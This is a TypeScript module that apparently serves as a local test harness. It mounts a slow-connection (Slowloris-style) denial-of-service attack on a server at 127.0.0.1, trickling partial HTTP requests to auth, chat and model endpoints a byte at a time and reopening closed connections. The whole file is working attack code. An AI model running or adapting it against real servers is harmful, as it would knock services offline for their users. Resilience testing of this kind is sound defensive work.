import { connect, type Socket } from "node:net";

export type Attack = {
  /** Connections that stand right now. */
  standing(): number;
  /** Connections that were closed by the other side, and opened anew. */
  closed(): number;
  stop(): void;
};

type Options = { port: number; count: number; localAddress: string };

/** Beginnings that cost who sends them next to nothing: bodies, and a head, that go on byte by byte. */
const beginnings = [
  "POST /api/auth/token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n",
  "POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
  "POST /api/models HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
  "GET /api/models HTTP/1.1\r\nHost: localhost\r\nX-A: ",
];
const byteEveryMs = 14_000;
/** New connections in each tenth of a second: at first, and for those that were closed. */
const openedAtFirst = 100;
const openedAgain = 10;

/** Opens `count` slow connections from one address, 1,000 a second, then a new one for each that is closed, 100 a second. */
export function startAttack({ port, count, localAddress }: Options): Attack {
  const sockets = new Set<Socket>();
  let opened = 0;
  let closed = 0;
  const open = () => {
    const beginning = beginnings[opened % beginnings.length] ?? "";
    opened += 1;
    const socket = connect({ port, host: "127.0.0.1", localAddress }, () => {
      if (socket.writable) socket.write(beginning);
    });
    sockets.add(socket);
    const piece = beginning.includes("chunked") ? "1\r\na\r\n" : "a";
    const timer = setInterval(() => socket.write(piece), byteEveryMs);
    socket.resume().on("error", () => undefined);
    socket.once("close", () => {
      clearInterval(timer);
      sockets.delete(socket);
      closed += 1;
    });
  };
  const opening = setInterval(() => {
    const most = opened < count ? openedAtFirst : openedAgain;
    const missing = Math.min(most, count - sockets.size);
    for (let number = 0; number < missing; number += 1) open();
  }, 100);
  return {
    standing: () => sockets.size,
    closed: () => closed,
    stop() {
      clearInterval(opening);
      for (const socket of sockets) socket.destroy();
    },
  };
}
